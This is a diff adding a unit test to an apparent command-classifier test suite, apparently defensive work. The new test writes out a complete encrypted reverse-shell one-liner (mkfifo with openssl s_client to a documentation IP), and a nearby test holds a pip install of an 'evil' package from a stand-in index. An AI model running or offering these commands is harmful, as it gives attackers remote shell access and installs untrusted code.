@@ -51,6 +51,10 @@ public sealed class ClassTableTests
     }
 
     [Fact]
+    public void A_shell_whose_output_goes_to_an_encrypted_connection_is_a_reverse_shell() =>
+        Assert.True(CommandClasses.Of("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s").Is(CommandClass.ReverseShell));
+
+    [Fact]
     public void Packages_and_code_of_a_command_are_found()
     {
         Assert.Equal(["requests==2.0", "evil"], CommandClasses.Of("sys.executable -m pip install -q --index-url https://example.invalid/simple requests==2.0 evil").Packages);
